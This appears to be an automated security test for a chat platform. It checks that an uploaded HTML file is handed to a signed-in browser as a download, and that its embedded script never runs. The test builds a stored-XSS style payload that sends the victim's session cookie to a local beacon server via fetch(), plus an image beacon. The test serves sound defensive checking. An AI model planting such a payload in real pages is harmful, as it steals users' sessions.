import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { ChannelInfo, Message, MessageFile } from '@switchboard/protocol';
import { type Browser, chromium } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { call, login, type Session, startPlatform, type TestPlatform } from '../harness.js';

/** A real browser opening an uploaded HTML file: it is downloaded, never rendered, and its script never runs. */
describe('an uploaded HTML file in a browser', () => {
  let t: TestPlatform;
  let alice: Session;
  let browser: Browser;
  let beacon: Server;
  const hits: string[] = [];

  beforeAll(async () => {
    t = await startPlatform();
    alice = await login(t.url, 'alice@example.com');
    beacon = createServer((req, res) => {
      hits.push(req.url ?? '');
      res.end('ok');
    });
    await new Promise<void>((resolve) => beacon.listen(0, '127.0.0.1', resolve));
    browser = await chromium.launch({
      executablePath: process.env.CHROMIUM_PATH ?? '/usr/bin/chromium',
      headless: true,
      args: ['--no-sandbox', '--disable-gpu'],
    });
  });
  afterAll(async () => {
    await browser?.close();
    beacon?.close();
    await t?.stop();
  });

  it('is handed to the browser as a download whose script never runs', async () => {
    const port = (beacon.address() as AddressInfo).port;
    const html = `<html><body><script>fetch('http://127.0.0.1:${port}/script-ran?c=' + document.cookie)</script><img src="http://127.0.0.1:${port}/img-loaded"></body></html>`;
    const token = await call<{ token: string }>(t.url, alice.token, 'POST', '/v1/files/upload/token', { filename: 'invoice.html', length: html.length });
    const form = new FormData();
    form.append('file', new Blob([html], { type: 'text/html' }), 'invoice.html');
    const uploaded = await (await fetch(`${t.url}/upload/files`, { method: 'POST', headers: { authtoken: token.body.token }, body: form })).json();
    const file = await call<{ id: string }>(t.url, alice.token, 'POST', '/v1/files/upload/complete', uploaded);
    const channels = await call<ChannelInfo[]>(t.url, alice.token, 'GET', '/v1/channels');
    const general = channels.body.find((c) => c.channel.name === 'general')?.channel.id ?? '';
    const posted = await call<Message>(t.url, alice.token, 'POST', `/v1/channels/${general}/messages`, { text: 'invoice', files: [file.body.id] });
    const path = (posted.body.files as MessageFile[])[0].path;

    // Bob opens the link in his signed-in browser (session cookie).
    const bob = await login(t.url, 'bob@example.com');
    const context = await browser.newContext({ acceptDownloads: true });
    const [name, value] = bob.cookie.split('=');
    await context.addCookies([{ name, value, url: t.url }]);
    const page = await context.newPage();
    const download = page.waitForEvent('download', { timeout: 5_000 });
    await page.goto(path).catch(() => {});
    expect((await download).suggestedFilename()).toBe('invoice.html');
    // Opened in a frame of a page, it still does not render.
    await page.setContent(`<iframe src="${path}"></iframe>`).catch(() => {});
    await new Promise((resolve) => setTimeout(resolve, 800));
    expect(hits).toEqual([]);
    await context.close();
  });
});
